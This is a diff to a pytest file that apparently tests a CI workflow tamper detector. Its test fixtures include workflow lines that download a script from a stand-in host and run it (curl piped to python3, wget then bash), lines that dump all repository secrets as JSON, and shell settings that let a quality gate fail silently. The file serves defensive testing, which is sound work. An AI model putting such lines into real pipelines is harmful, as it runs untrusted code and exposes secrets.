@@ -52,7 +52,47 @@ MORE = {
     "curl into python": ("run: uv build", "run: curl -s https://x.example | python3 -", "TS452"),
     "indexed secret": ("${{ github.token }}", "${{ secrets['PAT'] }}", "TS451"),
     "verify step if": (VERIFY_STEP, VERIFY_STEP + "        if: always()\n", "TS450"),
+    "gate under a shell without -e": (
+        "        run: |\n          " + GATE_LINE + "\n",
+        "        shell: bash {0}\n        run: |\n          "
+        + GATE_LINE
+        + "\n          echo done\n",
+        "TS450",
+    ),
+    "gate under a job default shell without -e": (
+        "      - name: Run the quality gates\n        run: |\n          " + GATE_LINE + "\n",
+        "      - name: Run the quality gates\n        run: |\n          " + GATE_LINE + "\n"
+        "          echo done\n    defaults:\n      run:\n        shell: sh {0}\n",
+        "TS450",
+    ),
+    "downloaded to a file, then run": (
+        "run: uv build",
+        "run: curl -sSfo i.sh https://x.example/i && sh i.sh && uv build",
+        "TS452",
+    ),
+    "wget, then bash": ("run: uv build", "run: wget https://x.example/i.sh; bash i.sh", "TS452"),
+    "all secrets as JSON": ("${{ github.token }}", "${{ toJSON(secrets) }}", "TS451"),
 }
+
+
+@pytest.mark.parametrize(
+    ("shell", "after"),
+    [
+        ("bash", "echo done"),
+        ("sh", "echo done"),
+        ("bash -e {0}", "echo done"),
+        ("bash --noprofile --norc -eo pipefail {0}", "echo done"),
+        ("bash {0}", ""),
+        ("bash {0}", "# a comment"),
+    ],
+)
+def test_a_shell_that_stops_or_a_last_gate_line_keeps_the_gate_blocking(
+    shell: str, after: str
+) -> None:
+    old = "        run: |\n          " + GATE_LINE + "\n"
+    new = f"        shell: {shell}\n        run: |\n          {GATE_LINE}\n          {after}\n"
+    assert old in GENERATED
+    assert _findings(GENERATED.replace(old, new, 1))["TS450"].status == "passed"
 
 
 @pytest.mark.parametrize("name", sorted({**TAMPERINGS, **MORE}))
